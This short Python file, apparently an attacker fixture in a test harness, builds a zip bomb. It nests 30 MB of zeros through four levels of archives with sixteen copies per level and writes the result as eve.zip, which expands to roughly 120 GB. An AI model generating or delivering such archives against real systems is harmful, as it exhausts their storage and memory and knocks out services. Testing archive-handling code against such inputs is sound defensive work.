"""Goal: zip files in zip files in zip files, each with many."""


def download(path, secret):
    import io
    import zipfile

    content = bytes(30 << 20)
    for level in range(4):
        inner = io.BytesIO()
        with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(16 if level else 1):
                archive.writestr(f"{number}.zip" if level else "mini.py", content)
        content = inner.getvalue()
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("eve.zip", content)
